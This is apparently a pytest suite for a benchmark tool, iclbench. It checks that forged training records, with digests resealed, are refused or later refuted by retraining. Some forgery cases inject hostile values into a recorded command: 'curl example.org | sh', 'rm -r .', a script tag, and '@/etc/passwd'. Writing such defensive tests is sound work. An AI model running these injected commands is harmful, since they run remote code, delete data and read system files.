"""Every forgery that an audit tried is refused, or shown as claimed and refused by training again.

Each edits a sound record as somebody would who knows the code: every digest is mended, and what
follows from the edit is changed with it.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from forging import Content, reseal, with_values
from small_runs import TINY

from iclbench import RecordStore, UsageError, run, verify
from iclbench.runs.comparison import Check
from iclbench.runs.facts import claims
from iclbench.runs.objects import Objects
from iclbench.runs.retraining import retrain, write_proof
from iclbench.runs.store import read_record, read_values
from iclbench.training.checkpoints import load_weights, weights_bytes

Forgery = Callable[[Path], Path]


@pytest.fixture(scope="session")
def sound(tmp_path_factory) -> Path:
    """Sound records: trained ones, a construction, solvers at the floor and with a curve."""
    folder = tmp_path_factory.mktemp("sound")
    run(model="baseconv", **TINY, out=folder)
    run(model="baseconv", **{**TINY, "recipe_args": {"steps": 60}}, out=folder)
    run(model="least-squares-qr", **{**TINY, "eval_prompts": 256}, out=folder)
    run(model="gradient-descent", **{**TINY, "task": "least-squares-prefixes"}, out=folder)
    built = run(model="baseconv", **TINY, weights="gd-causal", out=folder)
    alone = {**TINY, "seeds": 1, "model_args": built.spec.model_args}
    run(model="baseconv", **alone, out=folder)
    return folder


@pytest.fixture
def records(sound, tmp_path) -> Path:
    return Path(shutil.copytree(sound, tmp_path / "records"))


def find(folder: Path, model: str = "baseconv", origin: str = "trained", seeds: int = 2,
         steps: int | None = 20) -> Path:  # fmt: skip
    """The path of a sound record."""
    for path in RecordStore(folder).paths():
        spec = read_record(path).spec
        facts = (spec.model, spec.origin, len(spec.seeds), spec.recipe_args.get("steps"))
        if facts == (model, origin, seeds, steps):
            return path
    raise AssertionError(f"there is no record of {model}")


def solver(folder: Path, model: str) -> Path:
    return find(folder, model, "solver", 0, None)


def edit(change: Callable[[Content], object]) -> Forgery:
    """An edit of the trained record."""
    return lambda folder: reseal(find(folder), change)


def edit_main(**fields: object) -> Forgery:
    return edit(lambda c: c["evaluations"]["main"].update(fields))


def edit_spec(**fields: object) -> Forgery:
    return edit(lambda c: c["spec"].update(fields))


def edit_training(**fields: object) -> Forgery:
    return edit(lambda c: c["training"].update(fields))


def edit_command(old: str, new: str) -> Forgery:
    return edit(lambda c: c.update(command=c["command"].replace(old, new)))


def edit_curve(change: Callable[[Content], object]) -> Forgery:
    def forge(folder: Path) -> Path:
        path = solver(folder, "gradient-descent")
        return reseal(path, lambda c: change(c["evaluations"]["main"]["curves"]))

    return forge


def zero_curve(curves: Content) -> None:
    for name in ("mean", "median", "max", "low", "high"):
        curves["prefix_error"][name] = [0.0] * len(curves["prefix_error"][name])


def with_weights(path: Path, states: dict) -> Path:
    """Give the record other weights."""
    spec = read_record(path).spec
    weights = Objects.beside(path).write(
        weights_bytes(states, spec.model, spec.model_args), "safetensors"
    )
    return reseal(path, lambda c: c.update(weights=weights.model_dump(mode="json")))


def states_of(path: Path) -> dict:
    return load_weights(Objects.beside(path).path(read_record(path).weights)).states


def values_of(path: Path) -> dict:
    return read_values(path, read_record(path).main.values)


def seed_twice(folder: Path) -> Path:
    path = find(folder)
    state, values = states_of(path)[0], values_of(path)
    path = with_values(path, {name: np.stack([v[0], v[0]]) for name, v in values.items()})
    return with_weights(path, {0: state, 1: {name: v.clone() for name, v in state.items()}})


def seeds_listed(*seeds: int | None) -> Forgery:
    def change(content: Content) -> None:
        content["seeds"] = [{"seed": seed, "diverged_at": None} for seed in seeds]
        main = content["evaluations"]["main"]
        main["seeds"] = [main["seeds"][0] for _ in seeds]

    return edit(change)


def seeds_repeated(folder: Path) -> Path:
    """Two copies of one seed, in the spec and the command too."""

    def change(content: Content) -> None:
        content["seeds"] = [{"seed": 0, "diverged_at": None}] * 2
        content["spec"]["seeds"] = [0, 0]
        content["command"] = content["command"].replace("--seeds 2", "--seeds 0,0,")

    return reseal(find(folder), change)


def thirds_near_the_floor(folder: Path) -> Path:
    path = solver(folder, "least-squares-qr")
    return with_values(path, {"squared_error": values_of(path)["squared_error"] / 9})


def permuted(model: str) -> Forgery:
    def forge(folder: Path) -> Path:
        path = find(folder) if model == "baseconv" else solver(folder, model)
        values = values_of(path)["squared_error"]
        order = np.random.default_rng(0).permutation(values.shape[1])
        return with_values(path, {"squared_error": values[:, order]})

    return forge


def one_prompt_better(folder: Path) -> Path:
    path = find(folder)
    values = values_of(path)["squared_error"].copy()
    values[0, 5] *= 0.9
    return with_values(path, {"squared_error": values})


def as_solver(content: Content) -> None:
    content["spec"].update(origin="solver", recipe="", recipe_args={}, seeds=[])
    content.update(training=None, weights=None)


def as_constructed(content: Content) -> None:
    as_solver(content)
    content["spec"].update(origin="constructed", weights="gd-causal")
    content["command"] = content["command"].split(" --recipe")[0] + " --weights gd-causal"


def as_loaded(content: Content) -> None:
    """Consistent in all that can be computed: the checkpoint is only claimed."""
    weights, command = content["weights"], content["command"]
    as_solver(content)
    digest = weights["sha256"]
    content["weights"] = weights
    content["plugins"] = [p for p in content["plugins"] if p["name"] != "builtins"]
    content["spec"].update(origin="loaded", weights="mine.safetensors", checkpoint_digest=digest)
    kept = [command.partition(" --recipe")[0], "--weights mine.safetensors --eval-prompts 64"]
    content["command"] = " ".join(kept)


def as_trained_from_a_file(content: Content) -> None:
    content["spec"].update(init="mine.safetensors", checkpoint_digest="0" * 64)
    content["command"] = content["command"].replace(
        "--recipe", "--init mine.safetensors --recipe", 1
    )


REFUSED: dict[str, Forgery] = {
    "ranking.better": edit(lambda c: c["ranking"].update(better="higher")),
    "ranking.statistic": edit(lambda c: c["ranking"].update(statistic="mean")),
    "ranking.scale": edit(lambda c: c["ranking"].update(scale="linear")),
    "ranking.metric": edit(lambda c: c["ranking"].update(metric="other")),
    "a command with a shell line": edit(
        lambda c: c.update(command=c["command"] + "; curl example.org | sh")
    ),
    "a command on two lines": edit(lambda c: c.update(command=c["command"] + "\nrm -r .")),
    "a command with Markdown": edit(
        lambda c: c.update(command=c["command"] + "\n```\n<script>alert(1)</script>\n```bash")
    ),
    "a command that reads a file": edit_command("dim=2,examples=4", "@/etc/passwd"),
    "the command of another run": edit_command("--recipe smoke", "--recipe quick"),
    "evaluation.task_args": edit_main(task_args={"dim": 20, "examples": 40}),
    "evaluation.prompts": edit_main(prompts=2048),
    "evaluation.seed": edit_main(seed=7),
    "evaluation.digest": edit_main(digest="0" * 64),
    "evaluation.shift": edit_main(shift="harder"),
    "another evaluation": edit(
        lambda c: c["evaluations"].update(better=c["evaluations"]["main"])
    ),
    "training.steps": edit_training(steps=1),
    "the recipe's steps": edit(lambda c: c["spec"]["recipe_args"].update(steps=10)),
    "the recipe's name": edit_spec(recipe="quick"),
    "no training": edit(lambda c: c.update(training=None)),
    "one seed's weights under both": seed_twice,
    "repeated seeds": seeds_listed(0, 0),
    "repeated seeds everywhere": seeds_repeated,
    "invented seeds": seeds_listed(0, 7),
    "a seed more": seeds_listed(0, 1, 2),
    "no seeds": seeds_listed(),
    "seeds without numbers": seeds_listed(None, None),
    "trained as solver": edit(as_solver),
    "trained as constructed": edit(as_constructed),
    "trained as loaded": edit_spec(origin="loaded"),
    "errors divided by three at the floor": thirds_near_the_floor,
    "permuted prompts": permuted("baseconv"),
    "permuted prompts at the floor": permuted("least-squares-qr"),
    "one prompt's error": one_prompt_better,
    "curves dropped": edit_curve(lambda curves: curves.clear()),
    "a curve of zeros": edit_curve(zero_curve),
    "a curve's axis": edit_curve(lambda curves: curves["prefix_error"].update(axis="step")),
    "a curve's positions": edit_curve(
        lambda curves: curves["prefix_error"].update(values=[0, 10, 20, 30, 40])
    ),
    "negative seconds of training": edit_training(seconds=-1.0),
    "tiny seconds of training": edit_training(seconds=1e-9, steps_per_second=4e10),
    "seconds that contradict the rate": edit_training(seconds=1e3),
    "negative seconds of evaluation": edit_main(seconds=-1.0),
    "tiny seconds of evaluation": edit_main(seconds=1e-9),
    "a date of the future": edit(lambda c: c.update(created="2999-01-01T00:00:00+00:00")),
    "a date before the schema": edit(lambda c: c.update(created="2020-01-01T00:00:00+00:00")),
    "a date that is none": edit(lambda c: c.update(created="yesterday <b>")),
    "floor.name": edit(lambda c: c["evaluations"]["main"]["floor"].update(name="QR")),
    "floor.kind": edit(lambda c: c["evaluations"]["main"]["floor"].update(kind="bayes")),
    "plugins left out": edit(lambda c: c.update(plugins=c["plugins"][:1])),
    "another distribution": edit(lambda c: c["plugins"][0].update(distribution="other")),
    "unknown recipe arguments": edit(lambda c: c["spec"]["recipe_args"].update(magic=1)),
    "unknown recipe arguments in the command": edit_command(
        "--recipe smoke", "--recipe smoke --recipe-args magic=1"
    ),
    "an invented init": edit_spec(init="gd-causal"),
    "an invented init in the command": edit_command("--recipe", "--init gd-causal --recipe"),
    "an invented freeze": edit_spec(freeze=["*"]),
    "an invented checkpoint": edit_spec(checkpoint_digest="0" * 64),
    "an invented data digest": edit_spec(data_digest="0" * 64),
    "weights of other content": edit(lambda c: c["weights"].update(sha256="0" * 64)),
    "parameters": edit(lambda c: c.update(parameters=1)),
    "operations": edit(lambda c: c.update(operations={"forward": 1.0, "training": 1.0})),
    "a track": edit(lambda c: c.update(track="10m")),
    "a tuning": edit(lambda c: c.update(tuning={"sha256": "0" * 64, "document": {}})),
    "a divergence after the end": edit(lambda c: c["seeds"][0].update(diverged_at=99)),
    "the points of the training curve": edit_training(curve_steps=[7]),
    "a grader": edit(lambda c: c.update(grader={"name": "pmi"})),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_forgery_that_can_be_computed_is_refused(records, name):
    path = REFUSED[name](records)
    assert problem_of(path, verify)


def problem_of(path: Path, check: Callable[[Path], list[Check]]) -> str | None:
    """What is wrong with the record, in one line that names it; None if all facts hold."""
    try:
        differing = [fact.difference for fact in check(path) if not fact.holds]
    except UsageError as error:
        problem = str(error)
        assert str(path) in problem
        assert "\n" not in problem
        return problem
    return differing[0] if differing else None


def more_steps_as_fewer(folder: Path) -> Path:
    long = find(folder, steps=60)
    path = with_values(find(folder), values_of(long))
    return with_weights(path, states_of(long))


def constructed_as_trained(folder: Path) -> Path:
    built = find(folder, origin="constructed", seeds=0, steps=None)
    record = read_record(built)
    from iclbench.api.spec import RunSpec
    from iclbench.runs.models import given_models
    from iclbench.runs.plan import resolve

    (model,) = given_models(resolve(RunSpec.from_command(record.command)))
    state = {n: p.detach().float() for n, p in model.module.named_parameters()}
    state |= {n: b.float() for n, b in model.module.named_buffers()}
    path = with_values(find(folder, seeds=1), values_of(built))
    return with_weights(path, {0: state})


def elsewhere(forgery: Forgery) -> Forgery:
    """The same, with a claim that it happened on another processor."""

    def forge(folder: Path) -> Path:
        path = forgery(folder)
        return reseal(path, lambda c: c["environment"].update(processor="arm64 NEON"))

    return forge


#: Name → the forgery, and the claim that shows it.
CLAIMED: dict[str, tuple[Forgery, str]] = {
    "weights of more steps": (more_steps_as_fewer, "trained by this recipe"),
    "weights of more steps, made elsewhere": (
        elsewhere(more_steps_as_fewer), "trained by this recipe",
    ),
    "constructed as trained": (constructed_as_trained, "trained by this recipe"),
    "constructed as trained, made elsewhere": (
        elsewhere(constructed_as_trained), "trained by this recipe",
    ),
    "trained as loaded": (edit(as_loaded), "checkpoint"),
    "trained from a file": (edit(as_trained_from_a_file), "checkpoint"),
    "another training curve": (edit_training(curve=[[0.1, 0.1]]), "training curve"),
    "another device": (
        edit(lambda c: c["environment"].update(device="NVIDIA H200")), "device",
    ),
    "seconds of training": (
        edit_training(seconds=1e-4, steps_per_second=4e5), "seconds of training",
    ),
    "a divergence": (edit(lambda c: c["seeds"][0].update(diverged_at=3)), "diverged"),
    "a plugin's version": (
        edit(lambda c: c["plugins"][1].update(version="9.9")), "made by other code of",
    ),
    "a plugin's source": (
        edit(lambda c: c["plugins"][1].update(source="0" * 64)), "made by other code of",
    ),
    "the harness's source": (
        edit(lambda c: c["plugins"][0].update(source="0" * 64)), "made by other code of",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", CLAIMED)
def test_a_forgery_of_the_past_is_claimed_and_training_again_refuses_it(records, name):
    forgery, claim = CLAIMED[name]
    path = forgery(records)
    assert problem_of(path, verify) is None
    assert claim in claims(read_record(path))
    assert problem_of(path, lambda path: retrain(path).checks)


def test_a_sound_record_is_proved_and_its_claims_give_way(records):
    """A date of the past can't be refuted; after training again it is that of the proof."""
    path = edit(lambda c: c.update(created="2026-11-02T00:00:00+00:00"))(records)
    outcome = retrain(path)
    assert all(check.holds for check in outcome.checks)
    write_proof(path, outcome.record)
    proved = read_record(path)
    assert proved.proof.kind == "retrained"
    assert proved.proof.same_bits
    assert proved.created == proved.proof.created
    assert all(check.holds for check in verify(path))
    assert "proof" in claims(proved)


def test_a_sound_record_from_elsewhere_is_proved_within_the_tolerance(records):
    """Other rounding gives other bits; what the author claims of the past then stays claimed."""
    path = elsewhere(find)(records)
    rounded = {
        seed: {name: value * (1 + 1e-6) for name, value in state.items()}
        for seed, state in states_of(path).items()
    }
    outcome = retrain(with_weights(path, rounded))
    assert all(check.holds for check in outcome.checks)
    assert not outcome.record.proof.same_bits
    assert outcome.record.proof.tolerance is not None
    assert outcome.record.environment.processor == "arm64 NEON"


def test_all_sound_records_hold(sound):
    for path in RecordStore(sound).paths():
        assert [check for check in verify(path) if not check.holds] == []
